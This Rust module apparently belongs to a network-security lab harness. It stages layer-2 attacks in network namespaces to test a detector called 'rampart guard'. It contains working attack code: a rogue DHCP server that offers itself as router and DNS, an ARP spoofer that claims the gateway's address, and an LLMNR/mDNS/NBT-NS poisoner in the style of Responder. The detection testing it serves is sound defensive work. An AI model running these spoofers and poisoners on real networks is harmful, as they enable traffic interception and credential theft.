//! Layer-2 cases with real frames on a bridged segment (issue #11): a DHCP client and rogue
//! offers, a forged-ARP claim of the gateway, and an LLMNR/NBT-NS/mDNS poisoner, each observed
//! where the victim would feel it (offers received, the neighbour entry, answers received). The
//! gateway runs `rampart guard` on the segment's bridge (with its poisoner canary) and dnsmasq
//! as the legitimate DHCP server while such a scenario plays; this module writes their
//! configuration and reads the guard's events for the case's detection.

use std::io::BufRead;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, SocketAddrV6, UdpSocket};
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use rampart_guard::craft::{arp_frame, dhcp, udp4_frame, BROADCAST};
use rampart_guard::decode::{self, DhcpKind, Mac, NameProtocol, ARP_REPLY};

use crate::netns::{in_namespace, run_in};
use crate::topology::{Segment, Topology};
use crate::LabError;

/// How long a DHCP client collects offers. Why: dnsmasq on the gateway answers in a few ms;
/// a dropped rogue offer costs this wait once.
pub const OFFER_WAIT_MS: u64 = 600;
/// How long forged ARP is sent. Why: Linux ignores a changed link-layer address for
/// `locktime` (1 s) after the entry was confirmed, so the forgery must outlast it.
pub const ARP_SPOOF_MS: u64 = 1_300;
/// How long a victim waits for LLMNR answers.
pub const LOOKUP_WAIT_MS: u64 = 600;
/// How long to wait for the guard's detection event once the attack was played. Why: the
/// canary asks every second; the poisoner runs until the event is seen or this passes.
pub const DETECTION_WAIT_MS: u64 = 2_500;
/// How long the guard takes at most to write the events of frames it has seen (its poll
/// interval is 200 ms).
pub const GUARD_SETTLE_MS: u64 = 300;
/// The canary's interval in the lab (seconds).
pub const CANARY_INTERVAL_S: u64 = 1;
/// Largest guard events file the lab reads (bounded; the lab writes a few dozen events).
const EVENTS_MAX_BYTES: u64 = 4 << 20;

fn io_err(what: String) -> impl FnOnce(std::io::Error) -> LabError {
    move |source| LabError::Spawn {
        command: what,
        source,
    }
}

fn join<T>(h: std::thread::JoinHandle<Result<T, LabError>>) -> Result<T, LabError> {
    h.join().map_err(|_| LabError::Traffic {
        message: "an L2 thread panicked".into(),
    })?
}

/// The MAC of `dev` in namespace `ns`.
pub fn mac_of(ns: &str, dev: &str) -> Result<Mac, LabError> {
    let out = run_in(ns, "cat", &[&format!("/sys/class/net/{dev}/address")])?;
    let text = String::from_utf8_lossy(&out.stdout);
    Mac::parse(text.trim()).ok_or_else(|| LabError::Traffic {
        message: format!("{ns}: no MAC on {dev}: {text}"),
    })
}

/// The bridged segment of the hosts an L2 case names, with the gateway's IPv4 address on it.
pub fn bridged_segment<'t>(
    topology: &'t Topology,
    host: &str,
) -> Result<(&'t Segment, Ipv4Addr), LabError> {
    let segment = topology
        .segments
        .iter()
        .find(|s| s.hosts.iter().any(|h| h.name == host))
        .filter(|s| s.bridge)
        .ok_or_else(|| LabError::Traffic {
            message: format!("L2 cases play on a bridged segment; `{host}` is not on one"),
        })?;
    let gw = segment
        .gateway
        .iter()
        .find_map(|n| match n.addr() {
            std::net::IpAddr::V4(a) => Some(a),
            std::net::IpAddr::V6(_) => None,
        })
        .ok_or_else(|| LabError::Traffic {
            message: format!("segment {} has no IPv4 gateway address", segment.name),
        })?;
    Ok((segment, gw))
}

/// The guard's configuration for `segment`: every port untrusted (the legitimate DHCP server
/// is dnsmasq on the bridge device itself), each host's own address bound to its MAC and port
/// as a static entry (the range's hosts are statically addressed), the gateway's IPv6 address
/// protected, the poisoner canary every second from the gateway's address, and LLMNR, NBT-NS
/// and mDNS kept off the segment.
pub fn guard_config(
    segment: &Segment,
    gw_v4: Ipv4Addr,
    host_macs: &[(String, Mac)],
    dir: &Path,
) -> String {
    let mut ports = Vec::new();
    let mut statics = String::new();
    for (index, spec) in segment.hosts.iter().enumerate() {
        let port = format!("{}p{}", segment.iface, index + 1);
        ports.push(format!("\"{port}\""));
        let mac = host_macs.iter().find(|(n, _)| *n == spec.name);
        let v4 = spec.addrs.iter().find(|a| a.is_ipv4());
        if let (Some((_, mac)), Some(ip)) = (mac, v4) {
            statics.push_str(&format!(
                "[[static_arp]]\nip = \"{ip}\"\nmac = \"{mac}\"\nport = \"{port}\"\n"
            ));
        }
    }
    let protected: Vec<String> = segment
        .gateway
        .iter()
        .filter(|n| n.addr().is_ipv6())
        .map(|n| format!("\"{}\"", n.addr()))
        .collect();
    format!(
        "bridge = \"{bridge}\"\nuntrusted_ports = [{ports}]\nbindings_file = \"{bindings}\"\n\
         events_file = \"{events}\"\nprotected_ipv6 = [{protected}]\n{statics}\
         [canary]\nsource = \"{gw_v4}\"\n{source6}interval_s = {CANARY_INTERVAL_S}\n\
         [block]\nllmnr = true\nnbns = true\nmdns = true\n",
        bridge = segment.iface,
        ports = ports.join(", "),
        bindings = dir.join("guard.bindings").display(),
        events = dir.join("guard.events.jsonl").display(),
        protected = protected.join(", "),
        source6 = segment
            .gateway
            .iter()
            .find(|n| n.addr().is_ipv6())
            .map(|n| format!("source6 = \"{}\"\n", n.addr()))
            .unwrap_or_default(),
    )
}

/// dnsmasq's configuration: DHCP only (no DNS), on the bridge, a small pool at the top of the
/// segment's IPv4 prefix, no ping check (it would delay every offer by seconds).
pub fn dnsmasq_config(segment: &Segment, dir: &Path) -> Option<String> {
    let net = segment.gateway.iter().find(|n| n.addr().is_ipv4())?;
    let ipnet::IpNet::V4(net) = net else {
        return None;
    };
    let hosts: Vec<Ipv4Addr> = net.hosts().collect();
    let (first, last) = (
        hosts.get(hosts.len().checked_sub(12)?)?,
        hosts.get(hosts.len().checked_sub(3)?)?,
    );
    Some(format!(
        "port=0\ninterface={iface}\nbind-interfaces\nno-ping\nuser=root\nno-resolv\n\
         dhcp-range={first},{last},{mask},10m\ndhcp-leasefile={leases}\npid-file={pid}\n",
        iface = segment.iface,
        mask = net.netmask(),
        leases = dir.join("dnsmasq.leases").display(),
        pid = dir.join("dnsmasq.pid").display(),
    ))
}

/// Guard events appended after `offset` bytes of the events file.
pub fn events_since(path: &Path, offset: u64) -> Vec<serde_json::Value> {
    use std::io::{Read, Seek};
    let Ok(mut file) = std::fs::File::open(path) else {
        return Vec::new();
    };
    if file.seek(std::io::SeekFrom::Start(offset)).is_err() {
        return Vec::new();
    }
    let mut text = String::new();
    let _ = file.take(EVENTS_MAX_BYTES).read_to_string(&mut text);
    text.lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// Size of the events file now (0 when it does not exist yet).
pub fn events_offset(path: &Path) -> u64 {
    std::fs::metadata(path).map_or(0, |m| m.len())
}

/// Wait until the guard reports `kind` after `offset` (with `v6`: about an IPv6 address,
/// `detail.ip`); the event's reason when it does.
pub fn wait_detection(
    path: &Path,
    offset: u64,
    kind: &str,
    wait_ms: u64,
    v6: bool,
) -> Option<String> {
    let end = Instant::now() + Duration::from_millis(wait_ms);
    loop {
        let found = events_since(path, offset).into_iter().find(|e| {
            e["detail"]["kind"] == kind
                && (!v6
                    || e["detail"]["ip"]
                        .as_str()
                        .is_some_and(|ip| ip.contains(':')))
        });
        if let Some(e) = found {
            return Some(e["reason"].as_str().unwrap_or(kind).to_string());
        }
        if Instant::now() >= end {
            return None;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A packet socket bound to `eth0` of the calling thread's namespace.
fn packet_socket() -> Result<std::os::fd::OwnedFd, LabError> {
    use std::os::fd::FromRawFd;
    // SAFETY: plain socket(2) call; the result is checked.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if raw < 0 {
        return Err(io_err("packet socket".into())(
            std::io::Error::last_os_error(),
        ));
    }
    // SAFETY: `raw` is a fresh descriptor we own.
    let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(raw) };
    // SAFETY: sockaddr_ll is plain old data; all-zero is valid. The name is a C string.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    // SAFETY: a valid NUL-terminated name.
    addr.sll_ifindex = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) } as i32;
    // SAFETY: `addr` is a valid sockaddr_ll and the length matches.
    let rc = unsafe {
        libc::bind(
            fd.as_raw_fd(),
            std::ptr::addr_of!(addr).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    if rc != 0 {
        return Err(io_err("bind packet socket to eth0".into())(
            std::io::Error::last_os_error(),
        ));
    }
    Ok(fd)
}

/// Send `frames` out of `eth0` of `ns`, `gap_ms` apart, until `stop` (or once each when
/// `repeat_ms` is 0).
fn send_frames(
    ns: &str,
    frames: Vec<Vec<u8>>,
    gap_ms: u64,
    repeat_ms: u64,
) -> std::thread::JoinHandle<Result<(), LabError>> {
    in_namespace(ns, move || {
        let fd = packet_socket()?;
        let end = Instant::now() + Duration::from_millis(repeat_ms);
        loop {
            for f in &frames {
                // SAFETY: `f` is valid for its length.
                let _ = unsafe { libc::send(fd.as_raw_fd(), f.as_ptr().cast(), f.len(), 0) };
                std::thread::sleep(Duration::from_millis(gap_ms));
            }
            if Instant::now() >= end {
                return Ok(());
            }
        }
    })
}

fn bind_to_eth0(socket: &UdpSocket) -> Result<(), LabError> {
    let name = b"eth0";
    // SAFETY: `name` is valid for its length; SO_BINDTODEVICE reads that many bytes.
    let rc = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_BINDTODEVICE,
            name.as_ptr().cast(),
            name.len() as u32,
        )
    };
    if rc != 0 {
        return Err(io_err("SO_BINDTODEVICE eth0".into())(
            std::io::Error::last_os_error(),
        ));
    }
    Ok(())
}

/// A rogue DHCP server that knows the client's transaction: OFFER and ACK for `xid` with
/// itself as server, router and the offered address from its own range.
fn rogue_offers(xid: u32, client: Mac, rogue_mac: Mac, rogue_ip: Ipv4Addr) -> Vec<Vec<u8>> {
    [2u8, 5]
        .iter()
        .map(|&kind| {
            let offered = Ipv4Addr::from(u32::from(rogue_ip).wrapping_add(100));
            let msg = dhcp(
                2,
                kind,
                xid,
                client,
                Ipv4Addr::UNSPECIFIED,
                offered,
                &[
                    (54, rogue_ip.octets().to_vec()),
                    (51, 3600u32.to_be_bytes().to_vec()),
                    (3, rogue_ip.octets().to_vec()),
                    (6, rogue_ip.octets().to_vec()),
                ],
            );
            udp4_frame(
                rogue_mac,
                BROADCAST,
                rogue_ip,
                Ipv4Addr::BROADCAST,
                67,
                68,
                &msg,
            )
        })
        .collect()
}

/// A DHCP client on `client_ns`: broadcast a DISCOVER for `xid` and collect the server
/// identifiers of the OFFERs that reach it, while the rogue (if any) sends its offers.
pub fn dhcp_offers(
    client_ns: &str,
    client_mac: Mac,
    xid: u32,
    rogue: Option<(&str, Mac, Ipv4Addr)>,
    wait_ms: u64,
) -> Result<Vec<Ipv4Addr>, LabError> {
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let client = in_namespace(client_ns, move || {
        let s = UdpSocket::bind("0.0.0.0:68").map_err(io_err("bind udp/68".into()))?;
        bind_to_eth0(&s)?;
        s.set_broadcast(true)
            .map_err(io_err("SO_BROADCAST".into()))?;
        s.set_read_timeout(Some(Duration::from_millis(50)))
            .map_err(io_err("read timeout".into()))?;
        let discover = dhcp(
            1,
            1,
            xid,
            client_mac,
            Ipv4Addr::UNSPECIFIED,
            Ipv4Addr::UNSPECIFIED,
            &[],
        );
        s.send_to(&discover, SocketAddrV4::new(Ipv4Addr::BROADCAST, 67))
            .map_err(io_err("send DISCOVER".into()))?;
        let _ = ready_tx.send(());
        let mut servers = Vec::new();
        let end = Instant::now() + Duration::from_millis(wait_ms);
        let mut buf = [0u8; 1500];
        while Instant::now() < end {
            let Ok((n, _)) = s.recv_from(&mut buf) else {
                continue;
            };
            let Some(m) = decode::dhcp(&buf[..n]) else {
                continue;
            };
            if m.op == 2 && m.xid == xid && m.kind == DhcpKind::Offer {
                servers.push(m.server_id.unwrap_or(Ipv4Addr::UNSPECIFIED));
            }
        }
        Ok(servers)
    });
    let rogue = match rogue {
        Some((ns, mac, ip)) => {
            // The offers go out once the DISCOVER is on the wire, as a rogue that saw it would.
            let _ = ready_rx.recv_timeout(Duration::from_millis(wait_ms));
            Some(send_frames(
                ns,
                rogue_offers(xid, client_mac, mac, ip),
                20,
                0,
            ))
        }
        None => None,
    };
    let servers = join(client)?;
    if let Some(r) = rogue {
        join(r)?;
    }
    Ok(servers)
}

/// How long `ns` may take to resolve an address (a round trip on a local bridge; seconds only
/// on a machine under heavy load).
pub const RESOLVE_WAIT_MS: u64 = 2_000;

/// Make `ns` resolve `ip` (a datagram to the discard port) and wait until its neighbour entry
/// has a link-layer address (or [`RESOLVE_WAIT_MS`] passed).
pub fn poke(ns: &str, ip: Ipv4Addr) -> Result<(), LabError> {
    join(in_namespace(ns, move || {
        let s = UdpSocket::bind("0.0.0.0:0").map_err(io_err("bind".into()))?;
        let _ = s.send_to(b"x", SocketAddrV4::new(ip, 9));
        Ok(())
    }))?;
    let end = Instant::now() + Duration::from_millis(RESOLVE_WAIT_MS);
    while neighbour(ns, ip)?.is_none() && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// The link-layer address `ns` holds for `ip` on eth0 (None when there is no usable entry).
pub fn neighbour(ns: &str, ip: Ipv4Addr) -> Result<Option<Mac>, LabError> {
    let out = run_in(ns, "ip", &["neigh", "show", &ip.to_string(), "dev", "eth0"])?;
    let text = String::from_utf8_lossy(&out.stdout);
    Ok(text
        .split_whitespace()
        .skip_while(|w| *w != "lladdr")
        .nth(1)
        .and_then(Mac::parse))
}

/// Forged ARP from `attacker_ns`: unicast replies to the victim and gratuitous replies, both
/// claiming `gw_ip` is at the attacker's MAC, for [`ARP_SPOOF_MS`].
pub fn arp_spoof(
    attacker_ns: &str,
    attacker_mac: Mac,
    victim_mac: Mac,
    victim_ip: Ipv4Addr,
    gw_ip: Ipv4Addr,
) -> Result<(), LabError> {
    let unicast = arp_frame(
        attacker_mac,
        victim_mac,
        ARP_REPLY,
        attacker_mac,
        gw_ip,
        victim_mac,
        victim_ip,
    );
    let garp = arp_frame(
        attacker_mac,
        BROADCAST,
        ARP_REPLY,
        attacker_mac,
        gw_ip,
        Mac::ZERO,
        gw_ip,
    );
    join(send_frames(
        attacker_ns,
        vec![unicast, garp],
        100,
        ARP_SPOOF_MS,
    ))
}

/// A Responder stand-in on `ns` (address `me`): answers every LLMNR, mDNS and NBT-NS query with
/// its own address until stopped.
pub struct Poisoner {
    stop: Arc<AtomicBool>,
    thread: std::thread::JoinHandle<Result<u64, LabError>>,
}

impl Poisoner {
    /// Start answering (over IPv6 too, from `me6`, when given); returns once the sockets
    /// listen.
    pub fn start(ns: &str, me: Ipv4Addr, me6: Option<Ipv6Addr>) -> Result<Self, LabError> {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
        let thread = in_namespace(ns, move || {
            let bind = |port: u16| {
                UdpSocket::bind(SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, port))
                    .map_err(io_err(format!("poisoner bind udp/{port}")))
            };
            let llmnr = bind(NameProtocol::Llmnr.port())?;
            llmnr
                .join_multicast_v4(&Ipv4Addr::new(224, 0, 0, 252), &me)
                .map_err(io_err("join 224.0.0.252".into()))?;
            let mdns = bind(NameProtocol::Mdns.port())?;
            mdns.join_multicast_v4(&Ipv4Addr::new(224, 0, 0, 251), &me)
                .map_err(io_err("join 224.0.0.251".into()))?;
            let nbns = bind(NameProtocol::Nbns.port())?;
            let mut sockets = vec![(llmnr, 1u16), (mdns, 1), (nbns, 0x20)];
            if me6.is_some() {
                // SAFETY: a valid NUL-terminated name.
                let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
                for (port, group) in [
                    (5355u16, Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 3)),
                    (5353, Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb)),
                ] {
                    let bind_err = io_err(format!("poisoner bind [::]:{port}"));
                    // IPv6-only, or it would collide with the IPv4 socket on the port.
                    let sock = socket2::Socket::new(
                        socket2::Domain::IPV6,
                        socket2::Type::DGRAM,
                        Some(socket2::Protocol::UDP),
                    )
                    .and_then(|sock| {
                        sock.set_only_v6(true)?;
                        sock.bind(&SocketAddrV6::new(Ipv6Addr::UNSPECIFIED, port, 0, 0).into())?;
                        Ok(sock)
                    })
                    .map_err(bind_err)?;
                    let s: UdpSocket = sock.into();
                    s.join_multicast_v6(&group, index)
                        .map_err(io_err(format!("join {group}")))?;
                    sockets.push((s, 28));
                }
            }
            for (s, _) in &sockets {
                s.set_read_timeout(Some(Duration::from_millis(20)))
                    .map_err(io_err("read timeout".into()))?;
            }
            let _ = ready_tx.send(());
            let mut answered = 0u64;
            let mut buf = [0u8; 1500];
            while !flag.load(Ordering::Relaxed) {
                for (s, rtype) in &sockets {
                    let Ok((n, from)) = s.recv_from(&mut buf) else {
                        continue;
                    };
                    let address = match (*rtype, me6) {
                        (28, Some(a)) => a.octets().to_vec(),
                        _ => me.octets().to_vec(),
                    };
                    if let Some(a) = poison_answer(&buf[..n], *rtype, &address) {
                        if s.send_to(&a, from).is_ok() {
                            answered += 1;
                        }
                    }
                }
            }
            Ok(answered)
        });
        if ready_rx.recv_timeout(Duration::from_secs(2)).is_err() {
            return Err(join(thread).err().unwrap_or(LabError::Traffic {
                message: "the poisoner did not start".into(),
            }));
        }
        Ok(Self { stop, thread })
    }

    /// Stop; the number of answers sent.
    pub fn stop(self) -> Result<u64, LabError> {
        self.stop.store(true, Ordering::Relaxed);
        join(self.thread)
    }
}

/// The poisoner's answer to query `q`: the question echoed with one record of type `rtype`
/// (A or AAAA for LLMNR/mDNS, NB for NBT-NS) pointing at `me` (4 or 16 bytes); None for
/// answers and short messages.
fn poison_answer(q: &[u8], rtype: u16, me: &[u8]) -> Option<Vec<u8>> {
    if q.len() < 12 || q[2] & 0x80 != 0 {
        return None;
    }
    let mut a = q.to_vec();
    a[2] |= 0x80;
    a[7] = 1;
    a.extend_from_slice(&[0xc0, 0x0c]);
    a.extend_from_slice(&rtype.to_be_bytes());
    a.extend_from_slice(&[0, 1, 0, 0, 0, 30]);
    if rtype == 0x20 {
        a.extend_from_slice(&[0, 6, 0, 0]); // NB flags, then the address
    } else {
        a.extend_from_slice(&(me.len() as u16).to_be_bytes());
    }
    a.extend_from_slice(me);
    Some(a)
}

/// A victim's LLMNR lookup of `name` from `ns` (address `me`: over IPv4 to 224.0.0.252, over
/// IPv6 to ff02::1:3 on eth0): the addresses that answered.
pub fn llmnr_lookup(ns: &str, me: IpAddr, name: &str) -> Result<Vec<IpAddr>, LabError> {
    let query = rampart_guard::canary::query(NameProtocol::Llmnr, name, 0x4c61);
    join(in_namespace(ns, move || {
        let s = UdpSocket::bind(SocketAddr::new(me, 0)).map_err(io_err("bind".into()))?;
        let group: SocketAddr = match me {
            IpAddr::V4(_) => {
                s.set_multicast_ttl_v4(1)
                    .map_err(io_err("multicast ttl".into()))?;
                SocketAddrV4::new(Ipv4Addr::new(224, 0, 0, 252), 5355).into()
            }
            IpAddr::V6(_) => {
                // SAFETY: a valid NUL-terminated name.
                let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
                SocketAddrV6::new(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 3), 5355, 0, index).into()
            }
        };
        s.set_read_timeout(Some(Duration::from_millis(50)))
            .map_err(io_err("read timeout".into()))?;
        s.send_to(&query, group)
            .map_err(io_err("send LLMNR query".into()))?;
        let mut seen = Vec::new();
        let end = Instant::now() + Duration::from_millis(LOOKUP_WAIT_MS);
        let mut buf = [0u8; 1500];
        while Instant::now() < end {
            if let Ok((_, from)) = s.recv_from(&mut buf) {
                seen.push(from.ip());
            }
        }
        Ok(seen)
    }))
}

/// A process started for the run (guard, jail, dnsmasq) and stopped gracefully: SIGTERM, then
/// SIGKILL after a grace period. The guard deletes its tables only on SIGTERM.
pub struct Service {
    child: std::process::Child,
    name: String,
}

/// How long a service may take to stop on SIGTERM. Why this long: the guard runs `nft` twice
/// on the way out (counters, teardown), which takes seconds on a loaded CI machine.
const STOP_GRACE_MS: u64 = 10_000;
/// How long a service may take to say it is ready.
const READY_MS: u64 = 10_000;

impl Service {
    /// Start `argv` in namespace `ns`; without `ready_file`, wait for its first stdout line,
    /// else for that file. With `own_sysfs` through `ip netns exec` (which mounts the
    /// namespace's own `/sys`: the guard reads bridge ports there), else through `nsenter`
    /// (which keeps the host's cgroup mount the jail needs).
    pub fn start(
        name: &str,
        ns: &str,
        argv: &[String],
        ready_file: Option<&Path>,
        own_sysfs: bool,
    ) -> Result<Self, LabError> {
        Self::start_inner(name, ns, argv, ready_file, own_sysfs, None)
    }

    /// Like [`Service::start`] through `nsenter`, ready at its first stdout line; every later
    /// stdout line (a component's JSON events) is appended to `stdout_log`.
    pub fn start_logging(
        name: &str,
        ns: &str,
        argv: &[String],
        stdout_log: &Path,
    ) -> Result<Self, LabError> {
        Self::start_inner(name, ns, argv, None, false, Some(stdout_log))
    }

    fn start_inner(
        name: &str,
        ns: &str,
        argv: &[String],
        ready_file: Option<&Path>,
        own_sysfs: bool,
        stdout_log: Option<&Path>,
    ) -> Result<Self, LabError> {
        let mut log = match stdout_log {
            Some(path) => Some(
                std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(path)
                    .map_err(io_err(format!("open {}", path.display())))?,
            ),
            None => None,
        };
        let mut command = if own_sysfs {
            let mut c = std::process::Command::new("ip");
            c.args(["netns", "exec", ns]);
            c
        } else {
            let mut c = std::process::Command::new("nsenter");
            c.arg(format!("--net=/run/netns/{ns}"));
            c
        };
        command
            .args(argv)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = command.spawn().map_err(io_err(argv.join(" ")))?;
        let stdout = child.stdout.take();
        let stderr = child.stderr.take();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let Some(stdout) = stdout else { return };
            let mut lines = std::io::BufReader::new(stdout).lines();
            let _ = tx.send(lines.next().and_then(Result::ok));
            // Keep draining whatever comes (also after a bad line), so the service never blocks
            // on a full pipe.
            for line in lines {
                if let (Ok(line), Some(file)) = (line, log.as_mut()) {
                    use std::io::Write;
                    // One write per line, so a reader never sees half a line.
                    let _ = file.write_all(format!("{line}\n").as_bytes());
                }
            }
        });
        let tail = Arc::new(std::sync::Mutex::new(String::new()));
        if let Some(stderr) = stderr {
            let tail = Arc::clone(&tail);
            std::thread::spawn(move || {
                for line in std::io::BufReader::new(stderr)
                    .lines()
                    .map_while(Result::ok)
                {
                    if let Ok(mut t) = tail.lock() {
                        if t.len() < 4096 {
                            t.push_str(&line);
                            t.push('\n');
                        }
                    }
                }
            });
        }
        let mut service = Service {
            child,
            name: name.to_string(),
        };
        let ready = match ready_file {
            None => matches!(
                rx.recv_timeout(Duration::from_millis(READY_MS)),
                Ok(Some(_))
            ),
            Some(file) => {
                let end = Instant::now() + Duration::from_millis(READY_MS);
                while !file.exists() && Instant::now() < end {
                    if let Ok(Some(_)) = service.child.try_wait() {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(20));
                }
                file.exists()
            }
        };
        if !ready {
            service.kill();
            std::thread::sleep(Duration::from_millis(100));
            let stderr = tail.lock().map(|t| t.clone()).unwrap_or_default();
            return Err(LabError::CommandFailed {
                command: argv.join(" "),
                stderr: format!("{name} did not report ready: {}", stderr.trim()),
            });
        }
        Ok(service)
    }

    fn kill(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }

    /// SIGTERM and wait; SIGKILL after the grace period. True when it exited on SIGTERM.
    pub fn stop(mut self) -> bool {
        self.terminate()
    }

    fn terminate(&mut self) -> bool {
        if let Ok(Some(_)) = self.child.try_wait() {
            return true;
        }
        let Ok(pid) = i32::try_from(self.child.id()) else {
            self.kill();
            return false;
        };
        // SAFETY: signalling our own child by its pid.
        unsafe {
            libc::kill(pid, libc::SIGTERM);
        }
        let end = Instant::now() + Duration::from_millis(STOP_GRACE_MS);
        while Instant::now() < end {
            if let Ok(Some(_)) = self.child.try_wait() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        eprintln!(
            "rampart lab: {} did not stop on SIGTERM; killing it",
            self.name
        );
        self.kill();
        false
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        self.terminate();
    }
}

/// The run's scratch directory (`/tmp/rampart-lab-<pid>`, mode 0755 so unprivileged clients
/// can run the jailed program from it); removed when dropped.
pub struct Scratch(pub PathBuf);

impl Scratch {
    /// Create it.
    pub fn create() -> Result<Self, LabError> {
        use std::os::unix::fs::PermissionsExt;
        let dir = std::env::temp_dir().join(format!("rampart-lab-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).map_err(io_err(format!("mkdir {}", dir.display())))?;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))
            .map_err(io_err(format!("chmod {}", dir.display())))?;
        Ok(Self(dir))
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::topology::DEFAULT_TOPOLOGY;

    #[test]
    fn guard_config_binds_every_host_to_its_port_and_parses() {
        let topology = Topology::parse(DEFAULT_TOPOLOGY).unwrap();
        let (segment, gw) = bridged_segment(&topology, "corp-ws1").unwrap();
        assert_eq!(gw, Ipv4Addr::new(192, 0, 2, 1));
        let macs: Vec<(String, Mac)> = segment
            .hosts
            .iter()
            .enumerate()
            .map(|(i, h)| (h.name.clone(), Mac([2, 0, 0, 0, 0, i as u8 + 1])))
            .collect();
        let text = guard_config(segment, gw, &macs, Path::new("/tmp/x"));
        let cfg = rampart_guard::Config::from_toml(&text).unwrap();
        assert_eq!(cfg.bridge.as_deref(), Some("corp0"));
        assert_eq!(cfg.static_arp.len(), segment.hosts.len());
        assert!(cfg.trusted_ports.is_empty());
        assert_eq!(cfg.canary.as_ref().unwrap().interval_s, 1);
        assert_eq!(cfg.block.len(), 3);
        assert_eq!(
            cfg.canary.as_ref().unwrap().source6,
            Some("2001:db8:20::1".parse().unwrap())
        );
        assert!(bridged_segment(&topology, "public-web").is_err());
    }

    #[test]
    fn dnsmasq_pool_is_inside_the_segment_and_avoids_the_hosts() {
        let topology = Topology::parse(DEFAULT_TOPOLOGY).unwrap();
        let (segment, _) = bridged_segment(&topology, "corp-ws1").unwrap();
        let text = dnsmasq_config(segment, Path::new("/tmp/x")).unwrap();
        assert!(
            text.contains("dhcp-range=192.0.2.115,192.0.2.124,255.255.255.128,10m"),
            "{text}"
        );
    }

    #[test]
    fn poisoner_answers_queries_only() {
        let q = rampart_guard::canary::query(NameProtocol::Llmnr, "wpad", 7);
        let a = poison_answer(&q, 1, &[192, 0, 2, 66]).unwrap();
        assert!(a[2] & 0x80 != 0);
        assert_eq!(&a[a.len() - 4..], &[192, 0, 2, 66]);
        assert!(poison_answer(&a, 1, &[192, 0, 2, 66]).is_none());
        assert!(poison_answer(&[0; 4], 1, &[127, 0, 0, 1]).is_none());
        let v6: Ipv6Addr = "2001:db8:20::66".parse().unwrap();
        let a = poison_answer(&q, 28, &v6.octets()).unwrap();
        assert_eq!(&a[a.len() - 18..a.len() - 16], &[0, 16]);
    }
}
